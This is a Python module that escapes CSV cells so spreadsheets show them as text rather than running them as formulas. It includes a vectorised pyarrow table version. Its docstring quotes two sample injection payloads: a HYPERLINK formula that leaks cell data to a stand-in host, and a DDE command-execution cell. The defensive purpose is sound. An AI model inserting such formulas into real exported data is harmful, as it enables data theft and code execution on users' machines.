"""Spreadsheet-safe CSV cells: a text cell that a spreadsheet would run as a formula gets a
leading apostrophe, as OWASP's CSV-injection guidance recommends.

Bots choose their Host and User-Agent, feeds pass on what bots sent: a cell such as
`=HYPERLINK("http://x/?"&A1)` or `+cmd|' /C calc'!A0` must open as text. Spreadsheets
(Excel, LibreOffice, Google Sheets) take a cell beginning with = + - @ TAB or CR as a formula;
such a cell is written as `'` + value. So that the rule can be undone exactly, a value that
already begins with apostrophes followed by one of those characters gets one more: strip one
leading `'` from a cell matching `^'+[=+\\-@\\t\\r]` to get the original value. Quoting and
delimiters inside cells are the CSV writer's job (every writer here quotes as RFC 4180 asks).
"""

from __future__ import annotations

import re
from typing import Final, TypeVar

import pyarrow as pa
import pyarrow.compute as pc

TRIGGERS: Final = "=+-@\t\r"
"""First characters that make a spreadsheet evaluate a cell (OWASP: CSV Injection)."""
PATTERN: Final = "^'*[=+\\-@\\t\\r]"
_MATCH: Final = re.compile(PATTERN)
V = TypeVar("V")


def safe_cell(value: V) -> V | str:
    """A text value as a CSV cell a spreadsheet shows as text; other values unchanged."""
    if isinstance(value, str) and _MATCH.match(value):
        return "'" + value
    return value


def original(cell: str) -> str:
    """The value a cell written by safe_cell stands for."""
    return cell[1:] if re.match("^'+[=+\\-@\\t\\r]", cell) else cell


def _safe_array(values: pa.Array | pa.ChunkedArray) -> pa.Array | pa.ChunkedArray:
    hit = pc.fill_null(pc.match_substring_regex(values, PATTERN), False)
    if not pc.any(hit).as_py():
        return values
    quoted = pc.binary_join_element_wise("'", values, "")
    return pc.if_else(hit, quoted, values)


def safe_table(table: pa.Table) -> pa.Table:
    """Every text column of a table made safe with safe_cell's rule (vectorised). The text
    columns are first searched together in one pass: a table without a formula cell, the
    usual case, costs one regular-expression call, not one per column."""
    text = [
        i
        for i, field in enumerate(table.schema)
        if pa.types.is_string(field.type) or pa.types.is_large_string(field.type)
    ]
    chunks = [c for i in text for c in table.column(i).cast(pa.large_string()).chunks]
    if (
        not chunks
        or not pc.any(
            pc.match_substring_regex(pa.chunked_array(chunks, pa.large_string()), PATTERN)
        ).as_py()
    ):
        return table
    for i in text:
        table = table.set_column(i, table.schema.field(i), _safe_array(table.column(i)))
    return table
